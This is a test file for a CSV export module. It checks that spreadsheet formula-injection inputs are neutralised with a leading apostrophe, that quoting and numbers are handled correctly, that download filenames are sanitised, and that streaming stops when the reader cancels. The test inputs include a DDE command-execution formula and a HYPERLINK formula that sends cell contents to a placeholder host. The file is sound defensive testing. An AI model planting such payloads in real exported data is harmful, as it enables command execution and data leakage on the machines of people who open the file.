import { expect, test } from 'vitest'
import { csvAnswer, csvOf } from './csv'

test.each([
  ['=1+1', "'=1+1"],
  ['+1', "'+1"],
  ['-1', "'-1"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['=cmd|" /C calc"!A0', `"'=cmd|"" /C calc""!A0"`],
  ['=HYPERLINK("http://x.example?"&A1,"a")', `"'=HYPERLINK(""http://x.example?""&A1,""a"")"`],
  ['\t=1', "'=1"],
  ['\r\n=1', "'=1"],
  ['  =1', "'=1"],
  ['\u200B=1', "'=1"],
  ['\uFEFF=1', "'=1"],
  ['\u202E=1', "'=1"],
  ['＝1+1', "'＝1+1"],
  ['＋1', "'＋1"],
  ['a "quote", a comma', '"a ""quote"", a comma"'],
  ['two\nlines', '"two\nlines"'],
  ['تصحيح', 'تصحيح'],
  ['', ''],
])('the text %j is written %s', (text, written) => {
  expect(csvOf([[text, 1]], false)).toBe(`${written},1\r\n`)
})

test('numbers stay numbers, below zero too, and decimals keep their zeros', () => {
  const row = [-320, { decimal: '-23.80' }, { decimal: '0.00' }, null, 5_000_000_000]
  expect(csvOf([row], false)).toBe('-320,-23.80,0.00,,5000000000\r\n')
})

test('what only calls itself a decimal is text', () => {
  expect(csvOf([[{ decimal: '-1+cmd' }, 0]], false)).toBe("'-1+cmd,0\r\n")
})

test('only the first rows have a byte order mark', () => {
  expect(csvOf([['a']], true)).toBe('\uFEFFa\r\n')
})

test('a piece is made when it is read, and none after the reader has gone', async () => {
  let made = 0
  async function* pieces() {
    for (;;) yield `${++made}\r\n`
  }
  const answer = csvAnswer('points "x";\r\n2026-11.csv', pieces())
  expect(answer.headers.get('content-disposition')).toBe('attachment; filename="points--x----2026-11.csv"')
  const reader = answer.body?.getReader()
  await reader?.read()
  await reader?.read()
  await reader?.cancel()
  const before = made
  expect(before).toBeLessThan(5)
  await new Promise(done => setTimeout(done, 20))
  expect(made).toBe(before)
})
